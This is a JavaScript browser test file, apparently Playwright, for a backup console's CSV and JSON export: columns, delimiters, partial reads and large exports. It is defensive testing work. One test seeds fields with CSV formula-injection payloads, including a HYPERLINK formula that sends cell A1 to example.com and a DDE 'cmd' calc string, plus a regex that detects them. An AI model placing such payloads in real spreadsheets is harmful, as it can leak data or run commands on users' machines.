import { BROKEN, expect, LARGE, PROJECT, REFUSED, test } from './demo.mjs';
import { extent, ids, links, notices, open, openWhole, settled, stopClock, saved } from './lens.mjs';
import { kind, moment } from './tally.mjs';

const COLUMNS = [
  'id', 'name', 'status', 'fail_reason', 'volume_id', 'volume_name', 'is_incremental', 'size', 'object_count', 'data_timestamp', 'created_at',
  'updated_at', 'availability_zone', 'container', 'snapshot_id', 'has_dependent_backups', 'description', 'project_id', 'user_id',
  'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters', 'unreadable',
];

/** The service's name for a column, if it differs. */
const KEYS = { project_id: 'os-backup-project-attr:project_id' };

const TIMES = ['data_timestamp', 'created_at', 'updated_at'];
const OWN = COLUMNS.slice(0, -4);

/** Strict RFC 4180: records end in CRLF, quotes enclose whole cells, and inside them they are doubled. */
function readCsv(text, delimiter = ',') {
  const records = [[]];
  const plain = delimiter === ',' ? /[^",\r\n]*/y : /[^";\r\n]*/y;
  let at = 0;
  while (at < text.length) {
    let cell = '';
    const isQuoted = text[at] === '"';
    if (isQuoted) {
      const parts = [];
      do {
        const end = text.indexOf('"', at + 1);
        if (end < 0) throw new Error('a quote that is not closed');
        parts.push(text.slice(at + 1, end));
        at = end + 1;
      } while (text[at] === '"');
      cell = parts.join('"');
    } else {
      plain.lastIndex = at;
      [cell] = plain.exec(text);
      at += cell.length;
    }
    records.at(-1).push({ cell, isQuoted });
    if (text[at] === delimiter) at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      records.push([]);
    } else throw new Error(`stray text: ${JSON.stringify(text.slice(at, at + 20))}`);
  }
  if (records.pop().length > 0) throw new Error('the last record has no end');
  return records;
}

async function save(page, name) {
  return saved(page, async () => {
    await page.getByText('Export', { exact: true }).click();
    await page.getByRole('button', { name, exact: true }).click();
  });
}

/** A CSV file's rows as objects; an empty cell without quotes is null. */
function tableOf({ text }, delimiter) {
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head, ...records] = readCsv(text.slice(1), delimiter);
  expect(head.map(({ cell }) => cell)).toEqual(COLUMNS);
  expect(new Set(records.map((record) => record.length))).toEqual(new Set(records.length > 0 ? [COLUMNS.length] : []));
  const value = ({ cell, isQuoted }) => (cell === '' && !isQuoted ? null : cell);
  return records.map((record) => Object.fromEntries(record.map((read, place) => [COLUMNS[place], value(read)])));
}

/** The names of the volumes, by id. */
const named = new Map();

test.beforeEach(async ({ demo }) => {
  for (const where of [{}, LARGE]) for (const [id, { name }] of await demo.volumes(where)) named.set(id, name);
});

/** Technical details of a backup, by a file's names. Times are normalised. */
function fields(row, names = OWN) {
  const value = (name) => {
    const raw = (name === 'volume_name' ? (row[name] ?? named.get(row.volume_id)) : row[KEYS[name] ?? name]) ?? null;
    // Empty metadata counts as no metadata.
    if (name === 'metadata') return raw && Object.keys(raw).length > 0 ? raw : null;
    return TIMES.includes(name) ? (moment(raw) ?? null) : raw;
  };
  return Object.fromEntries(names.map((name) => [name, value(name)]));
}

/** What a spreadsheet would evaluate; a signed number is safe. */
const LEADS = /^[\s\ufeff\0]*([=@＝＋－＠]|[+-](?![\d ,.]*$))/;

/** Without the apostrophe that keeps a spreadsheet from evaluating a text: a text that begins with one gets another. */
const unguarded = (cell) => cell.replace(/^'/, '');

/** The CSV file contains exactly these backups, with everything the service returned. */
function expectCsv(file, backups, { extent, filters, delimiter }) {
  const records = tableOf(file, delimiter);
  const read = (name, cell) => {
    if (cell === null) return null;
    if (TIMES.includes(name)) return moment(cell);
    return name === 'metadata' ? fields({ metadata: JSON.parse(unguarded(cell)) }, [name])[name] : unguarded(cell);
  };
  const text = (name, value) => (value === null || name === 'metadata' || TIMES.includes(name) ? value : String(value));
  const each = (object, of) => Object.fromEntries(Object.entries(object).map(([name, value]) => [name, of(name, value)]));
  const about = { as_of: records[0]?.as_of, extent, filters, unreadable: null };
  expect(records.map((record) => each(record, read))).toEqual(backups.map((row) => ({ ...each(fields(row), text), ...about })));
  return records;
}

function expectJson({ text }, backups, { extent, filters, project = PROJECT }) {
  const { backups: read, as_of: at, ...about } = JSON.parse(text);
  expect(about).toEqual({ project_id: project, filters, extent, count: backups.length });
  expect(new Set(read.map((one) => Object.keys(one).filter((name) => name !== 'volume_name').join()))).toEqual(
    new Set(backups.length > 0 ? [OWN.filter((name) => name !== 'volume_name').map((name) => KEYS[name] ?? name).join()] : []),
  );
  expect(read.map((one) => fields(one))).toEqual(backups.map((row) => fields(row)));
  return at;
}

const NAME = (rows, ending) => new RegExp(`^backups_\\d{8}T\\d{6}Z_${rows}-rows?\\.${ending}$`);

test('a page is saved as CSV and as JSON, as the service gave it', async ({ page, demo, requests }) => {
  const now = await stopClock(page);
  await open(page, '?status=error&sort=size:asc&limit=20&page=2');
  const { backups } = await demo.list('status=error&sort=size:asc&limit=20&offset=20');
  expect(backups).toHaveLength(20);
  requests.clear();
  const about = { extent: 'page 2', filters: 'status:error' };
  const csv = await save(page, 'This page as CSV');
  expect(csv.name).toMatch(NAME(20, 'csv'));
  const [first] = expectCsv(csv, backups, about);
  expect(moment(first.as_of)).toBe(now);
  expect(csv.name).toContain(first.as_of.slice(0, 19).replace(/[-:]/g, ''));
  await expect(page.getByRole('status').last()).toContainText(`Saved ${csv.name}.`);
  const json = await save(page, 'This page as JSON');
  expect(json.name).toMatch(NAME(20, 'json'));
  expect(moment(expectJson(json, backups, about))).toBe(now);
  expect(requests.lists()).toEqual([]);
});

test('a file that the browser does not save is reported, until one is saved', async ({ page }) => {
  await page.addInitScript(() => {
    const make = URL.createObjectURL;
    URL.createObjectURL = (blob) => {
      if (window.refuses) throw new Error('refused');
      return make.call(URL, blob);
    };
  });
  await open(page);
  await page.evaluate(() => Object.assign(window, { refuses: true }));
  await page.getByText('Export', { exact: true }).click();
  await page.getByRole('button', { name: 'This page as CSV', exact: true }).click();
  await expect(notices(page)).toHaveText('The browser could not save the file.');
  await page.evaluate(() => Object.assign(window, { refuses: false }));
  await save(page, 'This page as CSV');
  await expect(notices(page)).toHaveCount(0);
});

test('all matches are saved, whichever page is shown, in its order', async ({ page, demo, requests }) => {
  await open(page, '?status=available&sort=name:desc&limit=10&page=3');
  const sorted = await demo.all('status=available&sort=name:desc');
  const csv = await save(page, 'All that match as CSV');
  expect(csv.name).toMatch(NAME(sorted.length, 'csv'));
  await expect(extent(page)).toHaveCount(0);
  expectCsv(csv, sorted, { extent: 'complete', filters: 'status:available' });
  const before = requests.lists().length;
  expectJson(await save(page, 'All that match as JSON'), sorted, { extent: 'complete', filters: 'status:available' });
  expect(requests.lists().length).toBe(before);
});

test('the result of a search over the whole project is saved as shown', async ({ page, demo }) => {
  await openWhole(page, '?q=is%3Afailed%20-name%3Atest&sort=size:desc');
  const shown = await ids(page);
  const all = new Map((await demo.all()).map((row) => [row.id, row]));
  const backups = shown.map((id) => all.get(id));
  expect(backups.length).toBeGreaterThan(20);
  const about = { extent: 'complete', filters: 'is:failed -name:test' };
  expectCsv(await save(page, 'All that match as CSV'), backups, about);
  expectJson(await save(page, 'All that match as JSON'), backups, about);
  await page.getByText('Export', { exact: true }).click();
  await expect(page.getByRole('button', { name: /as (CSV|JSON)$/ })).toHaveText(['All that match as CSV', 'All that match as JSON']);
});

test('the file of a page and the file of all say the same of a backup', async ({ page }) => {
  await open(page, '?limit=10');
  const read = ({ text }) => JSON.parse(text).backups;
  const [some, all] = [read(await save(page, 'This page as JSON')), read(await save(page, 'All that match as JSON'))];
  expect(some).toHaveLength(10);
  expect(all.slice(0, 10)).toEqual(some);
});

test('no cell of a spreadsheet is executed, and no text is lost', async ({ page, demo, add }) => {
  const hostile = [
    '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
    'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0", "'=1", '-5', '+49 170 1234',
  ];
  for (const name of hostile) await add({ name, description: name, fail_reason: name, status: 'error', container: name, availability_zone: name });
  await open(page, '?limit=1000');
  const { backups } = await demo.list('limit=1000');
  for (const name of hostile) expect(backups.map((row) => row.name)).toContain(name);
  const csv = await save(page, 'This page as CSV');
  expectCsv(csv, backups, { extent: 'page 1', filters: '' });
  const cells = readCsv(csv.text.slice(1)).flat().map(({ cell }) => cell);
  expect(cells).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
  expect(cells.filter((cell) => LEADS.test(cell))).toEqual([]);
  // Nothing is changed inside a text, or before a number.
  for (const name of ['a;=1;b', 'a\r\n+1', "nightly;=cmd|' /C calc'!A0", '-5', '+49 170 1234']) expect(cells).toContain(name);
  expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
});

test('semicolons are chosen once, for this browser, and both kinds of file say the same', async ({ page, demo, add }) => {
  for (const name of ['a;b', '=1;2', 'a,b']) await add({ name, status: 'error' });
  await open(page, '?limit=10');
  const { backups } = await demo.list('limit=10');
  const about = { extent: 'page 1', filters: '' };
  expectCsv(await save(page, 'This page as CSV'), backups, about);
  await page.getByText('Export', { exact: true }).click();
  const choice = page.getByRole('combobox', { name: 'CSV delimiter' });
  await expect(choice).toHaveValue('comma');
  await choice.selectOption('semicolon');
  await page.reload();
  await settled(page);
  const file = await save(page, 'This page as CSV');
  expectCsv(file, backups, { ...about, delimiter: ';' });
  expectCsv(await save(page, 'All that match as CSV'), await demo.all(), { extent: 'complete', filters: '', delimiter: ';' });
});

test.describe('of less than the whole', () => {
  test.use({ allowed: REFUSED });

  test('unreadable rows are in the files as raw data', async ({ page, demo }) => {
    await page.goto('./fault/oddrow/?view=backups');
    await settled(page);
    await expect(links(page).first()).toBeVisible();
    const { backups } = await demo.list();
    const { backups: read, extent: fileExtent, count } = JSON.parse((await save(page, 'This page as JSON')).text);
    expect([fileExtent, count, read.length]).toEqual(['page 1, 2 unreadable rows', 51, 51]);
    expect([read[1].id, read[1].status, read[1].links.length, read[3]]).toEqual([backups[1].id, 7, 2, 7]);
    const records = tableOf(await save(page, 'This page as CSV'));
    expect(records.filter(({ unreadable }) => unreadable !== null)).toHaveLength(2);
    expect([records[1].id, records[1].name, records[1].status]).toEqual([backups[1].id, backups[1].name, null]);
    expect(JSON.parse(records[1].unreadable).status).toBe(7);
    expect([records[3].id, records[3].unreadable]).toEqual([null, '7']);
  });

  test('a file of a partial reading says so', async ({ page, demo }) => {
    await page.route('**/backups/detail?*offset=999&**', (route) => route.fulfill({ status: 403, body: '' }));
    await page.goto('./?q=is%3Afailed');
    await expect(extent(page)).toContainText('partial: 1,000 of 1,200');
    await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0);
    const read = (await demo.list('limit=1000')).backups;
    const failed = read.filter((row) => kind(row) === 'failed');
    expectCsv(await save(page, 'All that match as CSV'), failed, { extent: 'partial: 1,000 of 1,200', filters: 'is:failed' });
  });
});

test('thirty thousand backups are in one file', async ({ page, demo }) => {
  await open(page, 'large/');
  const backups = await demo.all('', LARGE);
  const json = await save(page, 'All that match as JSON');
  expect(json.name).toMatch(NAME(30_000, 'json'));
  const read = JSON.parse(json.text);
  expect(read.count).toBe(30_000);
  expect(read.extent).toBe('complete');
  expect(unlike(read.backups, backups)).toBe(-1);
  const csv = await save(page, 'All that match as CSV');
  expect(unlike(tableOf(csv), backups)).toBe(-1);
});

/** Where two long lists of backups differ; -1 if they do not. Showing the difference would take minutes. */
function unlike(some, others) {
  if (some.length !== others.length) return Math.min(some.length, others.length);
  return some.findIndex(({ id }, place) => id !== others[place].id);
}

test.describe('a file that waits for the whole project', () => {
  test.use({ allowed: REFUSED });
  const waiting = (page) => page.locator('.waiting-file');

  test('says why it is not there when the reading fails, and is saved after Retry', async ({ page, demo }) => {
    await open(page, '?status=error');
    await demo.switch({ fault: '403' });
    await page.getByText('Export', { exact: true }).click();
    await page.getByRole('button', { name: 'All that match as CSV', exact: true }).click();
    await expect(waiting(page)).toContainText('CSV not saved: You are not permitted to list backups in this project');
    await demo.switch({});
    const file = await saved(page, () => waiting(page).getByRole('button', { name: 'Retry' }).click());
    expectCsv(file, await demo.all('status=error'), { extent: 'complete', filters: 'status:error' });
    await expect(waiting(page)).toHaveCount(0);
  });

  test.describe('with a reading that is broken off', () => {
    test.use({ allowed: BROKEN });

    test('says so when the reading is stopped, and what was read can be saved', async ({ page, demo }) => {
      await page.goto('./fault/slow/?view=backups');
      await settled(page);
      await page.getByText('Export', { exact: true }).click();
      await page.getByRole('button', { name: 'All that match as JSON', exact: true }).click();
      await expect(waiting(page)).toContainText(/JSON: waiting for all backups, [\d,]{5,} of 30,000 read/);
      await page.getByRole('button', { name: 'Stop' }).click();
      await expect(waiting(page)).toContainText('JSON not saved: the reading was stopped');
      const part = waiting(page).getByRole('button', { name: /^Save the [\d,]+ read$/ });
      const { text } = await saved(page, () => part.click());
      expect(JSON.parse(text).extent).toMatch(/^partial: [\d,]+ of 30,000$/);
      await expect(waiting(page)).toHaveCount(0);
    });
  });
});
